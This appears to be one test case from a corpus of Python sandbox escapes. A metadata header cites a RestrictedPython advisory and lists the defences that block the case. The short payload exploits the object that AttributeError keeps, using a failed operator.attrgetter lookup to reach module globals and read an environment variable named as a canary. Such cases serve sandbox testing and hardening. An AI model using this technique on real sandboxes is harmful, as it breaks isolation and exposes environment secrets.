# id: attributeerror-obj
# family: exceptions
# kind: information-leak
# invariant: C, D, E
# origin: RestrictedPython advisory CVE-2024-47532
# technique: a failed attribute lookup keeps the object in the error: a helper that walks a path gives away the object before last
# needs: 3.10+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import operator
import random

try:
    operator.attrgetter("choice.__func__.__globals__.nothing")(random)
except AttributeError as error:
    print(error.obj["_os"].environ["PADCELL_CANARY"])
